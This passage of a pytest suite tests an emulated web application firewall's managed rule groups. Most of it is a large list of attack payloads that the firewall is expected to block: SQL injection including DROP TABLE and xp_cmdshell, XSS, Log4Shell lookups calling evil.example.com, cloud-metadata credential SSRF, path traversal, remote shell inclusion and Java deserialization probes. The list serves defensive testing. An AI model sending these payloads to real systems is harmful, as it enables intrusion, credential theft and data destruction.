            40,
            request(headers=[("x-note", "n" * 40)], user_agent="ua"),
            request(headers=[("x-note", "n" * 41)], user_agent="ua"),
            id="any-header-value",
        ),
        pytest.param(
            "header:X-Api-Key",
            8,
            request(headers=[("x-api-key", "k" * 8), ("x-other", "o" * 50)]),
            request(headers=[("x-api-key", "k" * 9)]),
            id="one-header",
        ),
    ],
)
def test_size_limit_matches_parts_longer_than_max_bytes(
    clock: VirtualClock, part: str, limit: int, small: WebRequest, large: WebRequest
) -> None:
    firewall = Firewall([Rule("too-big", 0, "block", size_limit(part, limit))], clock=clock)
    assert not firewall.evaluate(small).blocked
    assert firewall.evaluate(large) == Verdict("block", "too-big")


def test_body_size_limit_needs_the_body_and_others_do_not(clock: VirtualClock) -> None:
    assert Firewall([rule(size_limit("body", 10))], clock=clock).needs_body
    assert not Firewall([rule(size_limit("query", 10))], clock=clock).needs_body


def test_size_limit_on_a_missing_header_does_not_match(clock: VirtualClock) -> None:
    firewall = Firewall([rule(size_limit("header:x-api-key", 0))], clock=clock)
    assert not firewall.evaluate(request()).blocked
    assert firewall.evaluate(request(headers=[("x-api-key", "k")])).blocked


# --- managed rule groups: attacks -------------------------------------------------------


def in_query(payload: str, *, encode: bool = True) -> WebRequest:
    return request(query="page=2&q=" + (quote(payload, safe="") if encode else payload))


def in_json(payload: str) -> WebRequest:
    return json_post({**ORDER, "note": payload})


def in_form(payload: str) -> WebRequest:
    body = urlencode({"name": "Ada", "comment": payload}).encode()
    headers = [("content-type", "application/x-www-form-urlencoded")]
    return request("POST", "/orders", body=body, headers=headers)


def in_cookie(payload: str) -> WebRequest:
    return request(headers=[("cookie", "session=3f9a1c; theme=" + quote(payload, safe=""))])


def in_path(payload: str) -> WebRequest:
    return request(path="/orders/" + payload)


def in_header(name: str, value: str) -> WebRequest:
    return request(headers=[(name, value)])


ATTACKS = [
    # SQL injection: classic break-outs, tautologies, UNION, stacked and time-based queries
    pytest.param(in_query("' OR 1=1--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-or-1-1"),
    pytest.param(in_query("' or '1'='1"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-quoted-tautology"),
    pytest.param(in_query('" or ""="'), "sqli:SQLi_QUERYARGUMENTS", id="sqli-double-quotes"),
    pytest.param(in_query("admin'--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-comment-out"),
    pytest.param(in_query("admin' #"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-hash-comment"),
    pytest.param(in_query('admin"--'), "sqli:SQLi_QUERYARGUMENTS", id="sqli-double-quote-comment"),
    pytest.param(in_json('admin"-- -'), "sqli:SQLi_BODY", id="sqli-json-double-quote-comment"),
    pytest.param(
        in_query("x' or username is not null--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-is-not-null"
    ),
    pytest.param(in_query("1' or id in (1,2)--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-in-list"),
    pytest.param(
        in_query("1' or 'a' like 'a"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-like-tautology"
    ),
    pytest.param(
        in_query("'; update users set role='admin' where id=1--"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-stacked-update",
    ),
    pytest.param(in_query("') or ('a'='a"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-parenthesised"),
    pytest.param(in_query("1 and 1=1"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-numeric-and"),
    pytest.param(in_query("' || '1'='1"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-pipes-operator"),
    pytest.param(in_query("x' or 1=1 limit 1 -- -"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-limit"),
    pytest.param(
        in_query("1 UNION SELECT username, password FROM users"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-union-select",
    ),
    pytest.param(
        in_query("1 union all select null,null--"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-union-all-lowercase",
    ),
    pytest.param(
        in_query("%27%20OR%201%3D1--", encode=False),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-url-encoded",
    ),
    pytest.param(
        in_query("%2527%2520OR%25201%253D1--", encode=False),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-double-url-encoded",
    ),
    pytest.param(
        in_query("%u0027%u0020OR%u00201%u003D1--", encode=False),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-iis-unicode-encoded",
    ),
    pytest.param(
        in_query("'/**/OR/**/1=1--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-comment-as-space"
    ),
    pytest.param(
        in_query("1'/**/UNION/**/SELECT/**/1,2,3--"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-comment-obfuscated-union",
    ),
    pytest.param(
        in_query("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-mysql-versioned-comment",
    ),
    pytest.param(
        in_query("1 UnIoN\tSeLeCt\n1,2"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-case-and-tabs"
    ),
    pytest.param(
        in_query("1; DROP TABLE users--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-stacked-drop"
    ),
    pytest.param(
        in_query("1'; DELETE FROM orders; --"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-stacked-delete"
    ),
    pytest.param(
        in_query("1; select pg_sleep(10)"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-stacked-sleep"
    ),
    pytest.param(
        in_query("'; exec master..xp_cmdshell 'ping 10.0.0.1'--"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-xp-cmdshell",
    ),
    pytest.param(
        in_query("'; WAITFOR DELAY '0:0:5'--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-waitfor"
    ),
    pytest.param(in_query("1 AND SLEEP(5)"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-sleep"),
    pytest.param(
        in_query("1' and benchmark(5000000,md5(1))#"),
        "sqli:SQLi_QUERYARGUMENTS",
        id="sqli-benchmark",
    ),
    pytest.param(in_query("1' ORDER BY 3--"), "sqli:SQLi_QUERYARGUMENTS", id="sqli-order-by-probe"),
    pytest.param(
        in_query("extractvalue(1,concat(0x7e,version()))"),
        "sqli:SQLiExtendedPatterns_QUERYARGUMENTS",
        id="sqli-extractvalue",
    ),
    pytest.param(
        in_query("x from information_schema.tables"),
        "sqli:SQLiExtendedPatterns_QUERYARGUMENTS",
        id="sqli-information-schema",
    ),
    pytest.param(
        in_query("char(115,101,108,101,99,116)"),
        "sqli:SQLiExtendedPatterns_QUERYARGUMENTS",
        id="sqli-char-encoded",
    ),
    pytest.param(in_json("' OR 1=1--"), "sqli:SQLi_BODY", id="sqli-json-body"),
    pytest.param(in_json('1" or ""="'), "sqli:SQLi_BODY", id="sqli-json-escaped-quotes"),
    pytest.param(
        in_json("1 UNION SELECT card FROM payments"), "sqli:SQLi_BODY", id="sqli-json-union"
    ),
    pytest.param(in_form("' OR 1=1--"), "sqli:SQLi_BODY", id="sqli-form-body"),
    pytest.param(in_cookie("' OR 1=1--"), "sqli:SQLi_COOKIE", id="sqli-cookie"),
    pytest.param(in_path("1%27%20OR%201%3D1--"), "sqli:SQLi_URIPATH", id="sqli-path-url-encoded"),
    # cross-site scripting
    pytest.param(
        in_query("<script>alert(1)</script>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-script",
    ),
    pytest.param(
        in_query("<ScRiPt>alert(document.cookie)</ScRiPt>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-script-mixed-case",
    ),
    pytest.param(
        in_query('"><script>alert(1)</script>'),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-break-out-of-attribute",
    ),
    pytest.param(
        in_query("<img src=x onerror=alert(1)>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-onerror",
    ),
    pytest.param(
        in_query("<svg/onload=alert(1)>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-svg-onload-slash",
    ),
    pytest.param(
        in_query("<details open ontoggle=alert(1)>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-ontoggle",
    ),
    pytest.param(
        in_query('" onmouseover="alert(1)'),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-attribute-handler",
    ),
    pytest.param(
        in_query("' autofocus onfocus=alert(1) x='"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-attribute-handler-after-another",
    ),
    pytest.param(
        in_query("javascript:alert(1)"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-javascript-url",
    ),
    pytest.param(
        in_query("JaVaScRiPt:alert(document.domain)"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-javascript-url-mixed-case",
    ),
    pytest.param(
        in_query("java%0ascript:alert(1)", encode=False),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-javascript-url-newline",
    ),
    pytest.param(
        in_query("javascript: alert(1)"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-javascript-url-space",
    ),
    pytest.param(
        in_query("javascript://%0aalert(1)", encode=False),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-javascript-url-comment",
    ),
    pytest.param(
        in_query("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-html-entities",
    ),
    pytest.param(
        in_query("&#60;script&#62;alert(1)&#60;/script&#62;"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-numeric-entities",
    ),
    pytest.param(
        in_query("&#x3C;img src=x onerror=alert(1)&#x3E;"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-hex-entities",
    ),
    pytest.param(
        in_query("%3Cscript%3Ealert(1)%3C%2Fscript%3E", encode=False),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-url-encoded",
    ),
    pytest.param(
        in_query("%253Cscript%253Ealert(1)%253C%252Fscript%253E", encode=False),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-double-url-encoded",
    ),
    pytest.param(
        in_query("<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>"),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-iframe-srcdoc",
    ),
    pytest.param(
        in_query("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        "common:CrossSiteScripting_QUERYARGUMENTS",
        id="xss-data-url",
    ),
    pytest.param(
        in_json("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        "common:CrossSiteScripting_BODY",
        id="xss-json-unicode-escapes",
    ),
    pytest.param(
        in_json("<img src=x onerror=alert(1)>"), "common:CrossSiteScripting_BODY", id="xss-json"
    ),
    pytest.param(
        in_form("<script>alert(1)</script>"), "common:CrossSiteScripting_BODY", id="xss-form"
    ),
    pytest.param(
        in_cookie("<script>alert(1)</script>"),
        "common:CrossSiteScripting_COOKIE",
        id="xss-cookie",
    ),
    pytest.param(
        in_path("%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        "common:CrossSiteScripting_URIPATH",
        id="xss-path",
    ),
    # Log4Shell, in every part it is looked for, and its obfuscations
    pytest.param(
        in_header("user-agent", "${jndi:ldap://evil.example.com/a}"),
        "bad-inputs:Log4JRCE_HEADER",
        id="log4shell-user-agent",
    ),
    pytest.param(
        in_header("x-api-version", "${jndi:rmi://evil.example.com:1099/a}"),
        "bad-inputs:Log4JRCE_HEADER",
        id="log4shell-any-header",
    ),
    pytest.param(
        in_header("x-request-id", "${${lower:j}ndi:ldap://evil.example.com/a}"),
        "bad-inputs:Log4JRCE_HEADER",
        id="log4shell-lower-lookup",
    ),
    pytest.param(
        in_header("x-request-id", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"),
        "bad-inputs:Log4JRCE_HEADER",
        id="log4shell-default-lookups",
    ),
    pytest.param(
        in_header("x-request-id", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"),
        "bad-inputs:Log4JRCE_HEADER",
        id="log4shell-env-lookups",
    ),
    pytest.param(
        in_query("${jndi:ldap://x/a}"), "bad-inputs:Log4JRCE_QUERYSTRING", id="log4shell-query"
    ),
    pytest.param(
        in_query("%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", encode=False),
        "bad-inputs:Log4JRCE_QUERYSTRING",
        id="log4shell-query-url-encoded",
    ),
    pytest.param(
        in_json("${j${k8s:k5:-ND}i:ldap://x/a}"),
        "bad-inputs:Log4JRCE_BODY",
        id="log4shell-json-body",
    ),
    pytest.param(
        in_path("%24%7Bjndi:ldap:%2F%2Fx%2Fa%7D"),
        "bad-inputs:Log4JRCE_URIPATH",
        id="log4shell-path",
    ),
    # instance-metadata SSRF
    pytest.param(
        in_query("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        "common:EC2MetaDataSSRF_QUERYARGUMENTS",
        id="ssrf-imds-query",
    ),
    pytest.param(
        in_json("http://169.254.169.254/latest/user-data"),
        "common:EC2MetaDataSSRF_BODY",
        id="ssrf-imds-json",
    ),
    pytest.param(
        in_json("http://[fd00:ec2::254]/latest/meta-data/"),
        "common:EC2MetaDataSSRF_BODY",
        id="ssrf-imds-ipv6",
    ),
    pytest.param(
        in_query("http://2852039166/"),
        "common:EC2MetaDataSSRF_QUERYARGUMENTS",
        id="ssrf-imds-decimal",
    ),
    pytest.param(
        in_query("http://0xa9fea9fe/"),
        "common:EC2MetaDataSSRF_QUERYARGUMENTS",
        id="ssrf-imds-hex",
    ),
    pytest.param(
        in_query("http://169.254.170.2/v2/credentials"),
        "common:EC2MetaDataSSRF_QUERYARGUMENTS",
        id="ssrf-ecs-credentials",
    ),
    pytest.param(
        in_cookie("http://169.254.169.254/"), "common:EC2MetaDataSSRF_COOKIE", id="ssrf-cookie"
    ),
    pytest.param(
        in_path("proxy/169.254.169.254/latest/meta-data"),
        "common:EC2MetaDataSSRF_URIPATH",
        id="ssrf-path",
    ),
    # user agents
    pytest.param(request(user_agent=None), "common:NoUserAgent_HEADER", id="ua-missing"),
    pytest.param(request(user_agent="  "), "common:NoUserAgent_HEADER", id="ua-blank"),
    pytest.param(
        request(user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),
        "common:UserAgent_BadBots_HEADER",
        id="ua-sqlmap",
    ),
    pytest.param(
        request(user_agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        "common:UserAgent_BadBots_HEADER",
        id="ua-nikto",
    ),
    pytest.param(
        request(user_agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
        "common:UserAgent_BadBots_HEADER",
        id="ua-nmap",
    ),
    # sizes in the common rule set
    pytest.param(
        request("POST", body=b"{" + b" " * 8_192 + b"}"),
        "common:SizeRestrictions_BODY",
        id="body-over-8kb",
    ),
    pytest.param(
        request(query="q=" + "a" * 2_047), "common:SizeRestrictions_QUERYSTRING", id="query-2kb"
    ),
    pytest.param(request(path="/" + "a" * 1_024), "common:SizeRestrictions_URIPATH", id="path-1kb"),
    pytest.param(
        in_header("cookie", "session=" + "c" * 10_233),
        "common:SizeRestrictions_Cookie_HEADER",
        id="cookie-10kb",
    ),
    # file inclusion, restricted files, exploitable paths
    pytest.param(
        in_query("../../../../etc/passwd"), "common:GenericLFI_QUERYARGUMENTS", id="lfi-query"
    ),
    pytest.param(
        in_query("..%2F..%2F..%2Fetc%2Fpasswd", encode=False),
        "common:GenericLFI_QUERYARGUMENTS",
        id="lfi-query-encoded",
    ),
    pytest.param(
        in_query("....//....//etc/hosts"), "common:GenericLFI_QUERYARGUMENTS", id="lfi-doubled"
    ),
    pytest.param(
        in_query("C:\\Windows\\win.ini"), "common:GenericLFI_QUERYARGUMENTS", id="lfi-windows"
    ),
    pytest.param(
        in_json("php://filter/convert.base64-encode/resource=index.php"),
        "common:GenericLFI_BODY",
        id="lfi-php-filter",
    ),
    pytest.param(in_path("..%2F..%2Fetc%2Fpasswd"), "common:GenericLFI_URIPATH", id="lfi-path"),
    pytest.param(
        request(path="/static/backup.sql"),
        "common:RestrictedExtensions_URIPATH",
        id="restricted-sql-dump",
    ),
    pytest.param(
        request(path="/logs/app.log"), "common:RestrictedExtensions_URIPATH", id="restricted-log"
    ),
    pytest.param(
        in_query("server.key"), "common:RestrictedExtensions_QUERYARGUMENTS", id="restricted-arg"
    ),
    pytest.param(
        in_query("http://203.0.113.5/shell.txt"),
        "common:GenericRFI_QUERYARGUMENTS",
        id="rfi-query",
    ),
    pytest.param(
        in_json("include http://203.0.113.5/shell.txt"), "common:GenericRFI_BODY", id="rfi-body"
    ),
    pytest.param(
        request(path="/.git/config"), "bad-inputs:ExploitablePaths_URIPATH", id="path-git"
    ),
    pytest.param(request(path="/.env"), "bad-inputs:ExploitablePaths_URIPATH", id="path-env"),
    pytest.param(
        request(path="/app/WEB-INF/web.xml"),
        "bad-inputs:ExploitablePaths_URIPATH",
        id="path-web-inf",
    ),
    pytest.param(
        request(path="/.aws/credentials"), "bad-inputs:ExploitablePaths_URIPATH", id="path-aws"
    ),
    # known bad inputs
    pytest.param(
        request("PROPFIND", "/orders"), "bad-inputs:PROPFIND_METHOD", id="propfind-method"
    ),
    pytest.param(
        request(host="localhost.localdomain"),
        "bad-inputs:Host_localhost_HEADER",
        id="host-localhost",
    ),
    pytest.param(
        request(host="127.0.0.1:8080"), "bad-inputs:Host_localhost_HEADER", id="host-loopback"
    ),
    pytest.param(
        request(host="[::1]:80"), "bad-inputs:Host_localhost_HEADER", id="host-loopback-v6"
    ),
    pytest.param(
        in_header("x-payload", "java.lang.Runtime.getRuntime().exec('id')"),
        "bad-inputs:JavaDeserializationRCE_HEADER",
        id="java-runtime-header",
    ),
    pytest.param(
        request("POST", body=b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"),
        "bad-inputs:JavaDeserializationRCE_BODY",
        id="java-serialized-binary-body",
    ),
    pytest.param(
        in_json("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
        "bad-inputs:JavaDeserializationRCE_BODY",
        id="java-serialized-base64-body",
    ),
    pytest.param(
        in_query("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        "bad-inputs:JavaDeserializationRCE_QUERYSTRING",
        id="spring4shell-query",
    ),
]


@pytest.mark.parametrize(("attack", "rule_name"), ATTACKS)
def test_managed_groups_block_attack(waf: Firewall, attack: WebRequest, rule_name: str) -> None:
    verdict = waf.evaluate(attack)
    assert verdict.rule == rule_name
    assert verdict.blocked
    assert verdict.label is not None
    assert verdict.label.startswith("awswaf:managed:aws:")


# --- managed rule groups: everyday requests ---------------------------------------------

BENIGN_TEXT = [
    pytest.param("O'Brien", id="apostrophe-name"),
    pytest.param("Dónal O'Neill-Smith", id="accented-apostrophe-name"),
    pytest.param("Côte d'Or in France", id="french-d-or"),
    pytest.param("jane.o'neil+orders@example.com", id="email-with-apostrophe-and-plus"),
    pytest.param("Please select a plan that suits you", id="select-a-plan"),
    pytest.param("Step 1: choose a size (S, M, L); select a colour", id="select-after-paren"),
    pytest.param("Sizes (S/M/L); update your address later", id="update-after-paren"),
    pytest.param("I said 'yes'; update me tomorrow", id="update-after-quote"),
    pytest.param("Meet at 10:00 or 11:00; insert card at gate", id="insert-after-number"),
    pytest.param("Drop off at 1 Main St; delete the old label", id="delete-after-number"),
    pytest.param("Fish & chips; select one from the menu", id="select-one-from"),
    pytest.param("Available actions: select, update, delete", id="sql-verbs-listed"),
    pytest.param("Or is there a faster option?", id="starts-with-or-is"),
    pytest.param("And in the end, the love you take", id="starts-with-and-in"),
    pytest.param("Order by phone -- call us anytime", id="order-by-phone"),
    pytest.param("Group by team #3", id="group-by-hash"),
    pytest.param("Choose 'small' or 'large' in the menu", id="quoted-or-quoted-in"),
    pytest.param("Rock 'n' roll and 'jazz' is fine", id="quoted-and-quoted-is"),
    pytest.param("Size M or L, either is fine", id="or-either-is"),
    pytest.param("I'll be there 1=1 guaranteed", id="one-equals-one-without-or"),
    pytest.param('He said "hello" and left', id="double-quotes-and"),
    pytest.param("Press '#' to continue, or '*' to go back", id="quoted-hash"),
    pytest.param("Use '--' between words", id="quoted-double-dash"),
    pytest.param('He said "no" -- then left', id="double-quote-then-dashes"),
    pytest.param('Press "#" to continue', id="double-quoted-hash"),
    pytest.param("Union Station, Platform 4", id="union-station"),
    pytest.param("The union selected a new chair", id="union-selected"),
    pytest.param("50% off -- today only!", id="percent-and-dashes"),
    pytest.param("Tom & Jerry's <3", id="ampersand-heart"),
    pytest.param("Total < base price + tax", id="less-than-base"),
    pytest.param("JavaScript: The Good Parts", id="book-javascript-colon"),
    pytest.param("Learn JavaScript in 24 hours", id="book-javascript"),
    pytest.param("<b>bold</b> and <i>italic</i>", id="harmless-html"),
    pytest.param('<a href="https://example.com/help">help</a>', id="harmless-link"),
    pytest.param("The truck's onload time is 5pm", id="onload-word"),
    pytest.param("Call me at +1 (555) 010-9999", id="phone-number"),
    pytest.param("Price: $10.99 (incl. VAT)", id="price"),
    pytest.param("2024-01-01T10:00:00Z -- 2024-01-31", id="date-range"),
    pytest.param("See ../docs for details", id="one-relative-link"),
    pytest.param("C# and F# developers", id="csharp"),
    pytest.param("6' or 7' tall", id="feet"),
    pytest.param("Sleep (8 hours) matters", id="sleep-word"),
    pytest.param("https://example.com/search?q=union+station&page=2", id="url-with-query"),
    pytest.param("https://shop.example.com/p/123?ref=newsletter#reviews", id="url-fragment"),
    pytest.param("https://cdn.example.com/img/logo.png", id="url-image"),
    pytest.param("vwWT)Np=+6-vGzTiopED", id="qr-code"),
    pytest.param("user@example.com", id="email"),
    pytest.param("Zoë 🚀 naïve café", id="unicode"),
    pytest.param("${name}, your order has shipped", id="template-placeholder"),
    pytest.param("SKU-4411/blue; qty=2", id="sku-with-semicolon"),
]


@pytest.mark.parametrize("text", BENIGN_TEXT)
def test_managed_groups_allow_everyday_text_in_a_json_body(waf: Firewall, text: str) -> None:
    verdict = waf.evaluate(json_post({**ORDER, "note": text, "items": [{"sku": "TS-M", "qty": 2}]}))
    assert verdict == Verdict("allow", DEFAULT_ACTION_RULE)


@pytest.mark.parametrize("text", BENIGN_TEXT)
def test_managed_groups_allow_everyday_text_in_a_query_argument(waf: Firewall, text: str) -> None:
    assert waf.evaluate(in_query(text)) == Verdict("allow", DEFAULT_ACTION_RULE)


@pytest.mark.parametrize("text", BENIGN_TEXT)
def test_managed_groups_allow_everyday_text_in_a_form_body(waf: Firewall, text: str) -> None:
    assert waf.evaluate(in_form(text)) == Verdict("allow", DEFAULT_ACTION_RULE)


BENIGN_REQUESTS = [
    pytest.param(json_post(ORDER), id="demo-order"),
    pytest.param(
        json_post(
            {
                "customer": {"name": "Siobhán O'Connor", "email": "siobhan@example.ie"},
                "shipping": {"line1": "12 Grafton St", "city": "Dublin", "notes": "Ring twice"},
                "items": [{"sku": "MUG-01", "qty": 1, "price": 12.5}],
                "coupon": None,
                "gift": True,
            }
        ),
        id="nested-order",
    ),
    pytest.param(
        request("POST", body=json.dumps(ORDER, indent=2).encode()), id="pretty-printed-order"
    ),
    pytest.param(request("POST", body=b"{" + b" " * 8_190 + b"}"), id="body-exactly-8kb"),
    pytest.param(request(path="/orders/ord_01HZX5Q/items"), id="nested-path"),
    pytest.param(request(path="/files/annual-report.pdf"), id="pdf-path"),
    pytest.param(request(path="/users/o%27brien"), id="encoded-apostrophe-path"),
    pytest.param(request(path="/blog/2024/select-a-plan"), id="sql-word-in-path"),
    pytest.param(
        request(
            query="redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=xyz&scope=openid"
        ),
        id="oauth-query",
    ),
    pytest.param(
        request(query="sort=price&order=desc&filter=status%3Dopen&page=2"), id="listing-query"
    ),
    pytest.param(request(query="email=jane%40example.com&name=O%27Brien"), id="encoded-query"),
    pytest.param(request(query="q=" + "a" * 2_040), id="query-under-2kb"),
    pytest.param(
        request(
            headers=[
                ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                ("accept-language", "en-GB,en;q=0.9,ga;q=0.8"),
                ("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
                ("cookie", "session=3f9a1c; cart=%7B%22items%22%3A2%7D; _ga=GA1.2.3.4"),
                ("referer", "https://shop.example.com/checkout?step=2"),
                ("x-forwarded-for", "203.0.113.5"),
            ]
        ),
        id="browser-headers",
    ),
    pytest.param(request(user_agent="curl/8.5.0"), id="curl"),
    pytest.param(request(user_agent="python-httpx/0.27.0"), id="httpx"),
    pytest.param(request(user_agent="Amazon CloudFront"), id="cloudfront"),
    pytest.param(request(host="api.example.com"), id="public-host"),
    pytest.param(request("OPTIONS", "/orders"), id="cors-preflight"),
]


@pytest.mark.parametrize("benign", BENIGN_REQUESTS)
def test_managed_groups_allow_everyday_requests(waf: Firewall, benign: WebRequest) -> None:
    assert waf.evaluate(benign) == Verdict("allow", DEFAULT_ACTION_RULE)


def test_gateway_hosts_are_not_localhost_attacks(clock: VirtualClock) -> None:
    firewall = managed_firewall(clock, BAD_INPUTS)
    assert not firewall.evaluate(request(host=GATEWAY_HOST)).blocked
    assert not firewall.evaluate(request(host="LOCALHOST:4566")).blocked
    assert firewall.evaluate(request(host="sub.localhost")).blocked


def test_localhost_is_an_attack_on_a_gateway_with_a_public_name(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("bad-inputs", 0, "block", managed(BAD_INPUTS))],
        clock=clock,
        gateway_hosts=["api.example.com"],
    )
    assert not firewall.evaluate(request(host="api.example.com")).blocked
    verdict = firewall.evaluate(request(host="localhost"))
    assert verdict.rule == "bad-inputs:Host_localhost_HEADER"
    assert verdict.label == "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"


def test_content_rules_inspect_only_the_first_8kb_of_a_body(clock: VirtualClock) -> None:
    firewall = managed_firewall(clock, SQLI)
    attack = b"' OR 1=1--"
    assert firewall.evaluate(request("POST", body=b" " * 8_000 + attack)).blocked
    assert not firewall.evaluate(request("POST", body=b" " * 8_192 + attack)).blocked


def test_common_rule_set_blocks_what_lies_beyond_8kb(clock: VirtualClock) -> None:
    firewall = managed_firewall(clock, COMMON, SQLI)
    verdict = firewall.evaluate(request("POST", body=b" " * 8_192 + b"' OR 1=1--"))
    assert verdict.rule == "g0-CommonRuleSet:SizeRestrictions_BODY"


@pytest.mark.parametrize(
    "unit",
    [
        pytest.param("..", id="dots"),
        pytest.param("../", id="traversals"),
        pytest.param("<a ", id="open-tags"),
        pytest.param("' or 'a", id="quoted-ors"),
        pytest.param("${${", id="nested-lookups"),
        pytest.param("; select a, ", id="statements"),
    ],
)
def test_an_adversarial_8kb_body_is_judged_in_milliseconds(waf: Firewall, unit: str) -> None:
    body = (unit * (8_192 // len(unit) + 1))[:8_192].encode()
    started = time.perf_counter()
    waf.evaluate(request("POST", body=body))
    assert time.perf_counter() - started < 0.1  # ~1 ms; quadratic patterns took 500+ ms


# --- excluded rules and Count overrides -------------------------------------------------


def test_excluded_rule_is_counted_but_does_not_block(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("sqli", 0, "block", managed(SQLI, excluded_rules=["SQLi_QUERYARGUMENTS"]))],
        clock=clock,
    )
    verdict = firewall.evaluate(in_query("' OR 1=1--"))
    assert verdict == Verdict("allow", DEFAULT_ACTION_RULE)
    counters = firewall.counters()
    assert counters["sqli:SQLi_QUERYARGUMENTS"] == {"allowed": 0, "blocked": 0, "counted": 1}
    assert counters["sqli"] == {"allowed": 0, "blocked": 0, "counted": 0}
    # the rest of the group still blocks
    assert firewall.evaluate(in_json("' OR 1=1--")).rule == "sqli:SQLi_BODY"


def test_group_evaluation_goes_on_past_an_excluded_rule(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("common", 0, "block", managed(COMMON, excluded_rules="NoUserAgent_HEADER"))],
        clock=clock,
    )
    assert not firewall.evaluate(request(user_agent=None)).blocked
    attack = request(user_agent=None, query="q=" + quote("<script>alert(1)</script>"))
    assert firewall.evaluate(attack).rule == "common:CrossSiteScripting_QUERYARGUMENTS"
    assert firewall.counters()["common:NoUserAgent_HEADER"]["counted"] == 2


def test_excluding_the_body_size_rule_lets_large_bodies_through(clock: VirtualClock) -> None:
    firewall = Firewall(
        [Rule("common", 0, "block", managed(COMMON, excluded_rules=["SizeRestrictions_BODY"]))],
        clock=clock,
    )
    assert not firewall.evaluate(json_post({"photo": "A" * 20_000})).blocked
    assert firewall.counters()["common:SizeRestrictions_BODY"]["counted"] == 1


def test_group_with_count_action_only_counts_its_first_match(clock: VirtualClock) -> None:
    firewall = Firewall(
        [
            Rule("common", 0, "count", managed(COMMON)),
            Rule("sqli", 1, "count", managed(SQLI)),
        ],
        "allow",
        clock=clock,
    )
    attack = request(user_agent=None, query="q=" + quote("<script>x</script>' OR 1=1--"))
    assert firewall.evaluate(attack) == Verdict("allow", DEFAULT_ACTION_RULE)
    counters = firewall.counters()
    assert counters["common"]["counted"] == 1
    assert counters["common:NoUserAgent_HEADER"]["counted"] == 1
    assert counters["common:CrossSiteScripting_QUERYARGUMENTS"]["counted"] == 0
    assert counters["sqli"]["counted"] == 1
    assert counters["sqli:SQLi_QUERYARGUMENTS"]["counted"] == 1
